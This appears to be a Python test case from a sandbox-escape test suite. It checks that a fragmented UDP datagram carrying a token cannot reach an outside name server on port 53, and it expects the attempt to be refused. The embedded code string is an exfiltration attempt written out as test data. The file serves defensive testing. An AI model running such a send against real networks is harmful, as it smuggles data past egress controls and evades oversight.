"""A datagram that is sent in fragments goes to a name server."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import NAMES


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    return ground.arrives(
        f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'{ground.token}' + bytes(8000), ('{NAMES}', 53))"
    )


ATTACK = Attack("UDP to the outside", attempt, recorded=("network.refused", f"udp {NAMES}:53"))
